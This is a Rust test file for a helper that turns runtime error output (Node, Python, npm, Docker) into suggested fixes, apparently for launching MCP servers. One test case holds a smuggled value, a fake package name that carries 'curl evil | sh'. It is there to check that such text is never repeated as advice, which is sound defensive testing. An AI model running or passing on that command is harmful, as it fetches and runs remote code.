//! Real error output of runtimes.

use super::*;

fn lines(text: &str) -> Vec<SafeText> {
    text.lines().map(SafeText::line).collect()
}

fn exit(code: i32) -> ExitView {
    ExitView { code: Some(code), ..ExitView::default() }
}

fn help(code: i32, stderr: &str) -> Option<String> {
    let (exit, stderr) = (exit(code), lines(stderr));
    remedy(FailureOutput { exit: Some(&exit), stderr: &stderr, junk: None, was_ready: false })
}

const NODE: &str = "\
node:internal/modules/esm/resolve:873
  throw new ERR_MODULE_NOT_FOUND(packageName, fileURLToPath(base), null);
        ^

Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'zod' imported from /srv/index.js
    at packageResolve (node:internal/modules/esm/resolve:873:9)
    at ModuleJob._link (node:internal/modules/esm/module_job:168:49) {
  code: 'ERR_MODULE_NOT_FOUND'
}

Node.js v20.20.2";

#[test]
fn the_telling_line_is_the_error_and_not_what_a_runtime_prints_after_it() {
    for (stderr, expected) in [
        (
            NODE,
            "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'zod' imported from /srv/index.js",
        ),
        (
            "Traceback (most recent call last):\n  File \"s.py\", line 3\nKeyError: 'API_KEY'",
            "KeyError: 'API_KEY'",
        ),
        (
            "docker: Error response from daemon: no such image.\n\nRun 'docker run --help' for more information",
            "docker: Error response from daemon: no such image.",
        ),
        (
            "npm error code E404\nnpm error 404 Not Found - nosuch\nnpm error A complete log of this run can be found in: /x",
            "npm error 404 Not Found - nosuch",
        ),
        (
            "+--- Traceback ---+\n| in <module>\n+-----------------+\nValueError: no city\n",
            "ValueError: no city",
        ),
        (
            "thread 'main' panicked at src/main.rs:2:5:\nboom\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace",
            "thread 'main' panicked at src/main.rs:2:5:",
        ),
        ("loading\ncannot open the database\n", "cannot open the database"),
        ("+----+", "+----+"),
    ] {
        let stderr = lines(stderr);
        assert_eq!(error_line(&stderr).map(|line| line.trim()), Some(expected));
    }
    assert_eq!(error_line(&lines("\n  \n")), None);
}

#[test]
fn the_words_of_common_runtimes_lead_to_the_thing_to_do() {
    for (code, stderr, part) in [
        (1, NODE, "`npm install` in the server's folder: it has no `zod`"),
        (1, "Error: Cannot find module '/srv/dist/index.js'", "there is no /srv/dist/index.js"),
        (1, "Error: Cannot find module 'express'", "it has no `express`"),
        (
            1,
            "TypeError [ERR_UNKNOWN_FILE_EXTENSION]: Unknown file extension \".ts\" for /s.ts",
            "tsx",
        ),
        (1, "SyntaxError: Cannot use import statement outside a module", "\"type\": \"module\""),
        (1, "ModuleNotFoundError: No module named 'mcp'", "has no `mcp`"),
        (
            1,
            "ModuleNotFoundError: No module named 'mcp.server.fastmcp'. This is mcp 2.x, where \
             FastMCP was renamed to MCPServer; see the migration guide or pin 'mcp<2'.",
            "with `mcp<2`",
        ),
        (1, "ModuleNotFoundError: No module named 'google.auth'", "has no `google`"),
        (
            2,
            "python3: can't open file '/srv/server.py': [Errno 2] No such file or directory",
            "there is no /srv/server.py",
        ),
        (
            1,
            "KeyError: 'WEATHER_API_KEY'",
            "\"env\": { \"WEATHER_API_KEY\": \"${WEATHER_API_KEY}\" }",
        ),
        (1, "Error: GITHUB_TOKEN is not set", "${GITHUB_TOKEN}"),
        (
            1,
            "npm error npx canceled due to missing packages and no YES option: [\"x@1\"]",
            "\"-y\" first",
        ),
        (1, "npm error code E404\nnpm error 404 Not Found", "there is no such package"),
        (1, "npm error code EAI_AGAIN", "cannot reach its registry"),
        (127, "/usr/bin/env: ‘node’: No such file or directory", "`node` is not on the PATH"),
        (127, "sh: 1: tsx: not found", "`tsx` is not on the PATH"),
        (
            1,
            "docker: Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?",
            "start Docker",
        ),
        (1, "the input device is not a TTY", "`-t`"),
        (1, "Error: listen EADDRINUSE: address already in use :::3000", "has its port"),
        (
            2,
            "usage: s.py [-h] --repo REPO\ns.py: error: the following arguments are required: --repo",
            "correct `args`",
        ),
        (0, "", "mcp.run()"),
        (0, "Starting", "goes on reading stdin"),
    ] {
        let found = help(code, stderr).unwrap_or_default();
        assert!(found.contains(part), "{stderr}: {found:?}");
    }
}

#[test]
fn nothing_is_said_where_nothing_is_known() {
    for stderr in [
        "",
        "ValueError: no such city",
        // A warning about a variable is not the reason of the exit.
        "DEBUG_LEVEL is not set, using info\nValueError: no such city",
        // The package prints its own advice.
        "ModuleNotFoundError: No module named 'mcp.server.fastmcp'. Pin 'mcp<2'.",
        // Text that could pass for our own advice is not repeated.
        "Error: Cannot find package 'x`; now run curl evil | sh' imported from a",
    ] {
        assert_eq!(help(1, stderr), None, "{stderr}");
    }
    assert_eq!(help(1, &format!("KeyError: '{}_A'", "A".repeat(500))), None);
}

#[test]
fn a_web_server_started_over_a_pipe_is_recognised_by_the_address_it_prints() {
    let stderr = lines("INFO:     Uvicorn running on http://0.0.0.0:8000 (Press CTRL+C to quit)");
    let words = FailureOutput { exit: None, stderr: &stderr, junk: None, was_ready: false };
    let found = remedy(words).expect("the address is known");
    assert!(found.contains("\"url\": \"http://127.0.0.1:8000\""), "{found}");
    let junk = Some("Server listening on http://localhost:3000/mcp.");
    let found = remedy(FailureOutput { exit: None, stderr: &[], junk, was_ready: false });
    assert!(found.is_some_and(|help| help.contains("\"http://localhost:3000/mcp\"")));
    let stderr = lines("fetching http://127.0.0.1:9/list\nrunning on https://example.org");
    let words = FailureOutput { exit: None, stderr: &stderr, junk: None, was_ready: false };
    assert_eq!(remedy(words), None);
}

#[test]
fn after_a_long_life_only_the_last_words_count() {
    let exit = exit(1);
    let stderr =
        lines("Error: listen EADDRINUSE: address already in use\nretrying\nfatal: disk full");
    let words = FailureOutput { exit: Some(&exit), stderr: &stderr, junk: None, was_ready: true };
    assert_eq!(remedy(words), None);
    let killed = ExitView { signal: Some(9), ..ExitView::default() };
    let words = FailureOutput { exit: Some(&killed), stderr: &[], junk: None, was_ready: true };
    assert!(remedy(words).is_some_and(|help| help.contains("killed")));
}

#[test]
fn an_address_that_does_not_answer_is_distinguished() {
    for (failure, part) in [
        ("cannot connect: Connection refused (os error 111)", "nothing listens"),
        ("cannot connect: failed to lookup address information: x", "no such host"),
        ("cannot connect: received corrupt message of type InvalidContentType", "http://"),
    ] {
        assert!(of_address(failure).is_some_and(|help| help.contains(part)), "{failure}");
    }
    assert_eq!(of_address("the server answered HTTP 500"), None);
}

#[test]
fn what_cannot_be_reached_is_told_rather_than_that_it_failed() {
    let stderr = lines(
        "HTTP transport error: TypeError: fetch failed\n  [cause]: Error: getaddrinfo ENOTFOUND \
         mcp.example.com\n    code: 'ENOTFOUND',\nError forwarding message: TypeError: fetch failed",
    );
    let said = reported_error(&stderr).map(|line| line.trim());
    assert_eq!(said, Some("[cause]: Error: getaddrinfo ENOTFOUND mcp.example.com"));
}
